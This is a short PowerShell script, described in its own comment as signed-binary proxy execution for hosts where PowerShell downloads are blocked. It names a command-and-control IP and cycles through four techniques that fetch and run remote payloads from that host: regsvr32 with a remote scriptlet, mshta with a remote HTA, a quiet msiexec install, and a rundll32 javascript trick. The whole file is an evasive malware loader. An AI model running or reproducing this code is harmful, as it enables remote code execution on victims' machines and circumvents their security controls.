# signed-binary proxy execution for hosts where powershell downloads are blocked
$c2 = '198.51.100.23'

function Invoke-Fallback {
    param([int]$Step)

    switch ($Step) {
        1 { regsvr32.exe /s /n /u /i:http://198.51.100.23/r.sct scrobj.dll }
        2 { mshta.exe "http://$c2/m.hta" }
        3 { msiexec.exe /q /i https://198.51.100.23/setup.msi }
        4 { rundll32.exe 'javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.23/r.sct")' }
    }
}

foreach ($i in 1..4) {
    Invoke-Fallback -Step $i
    Start-Sleep -Seconds 20
}
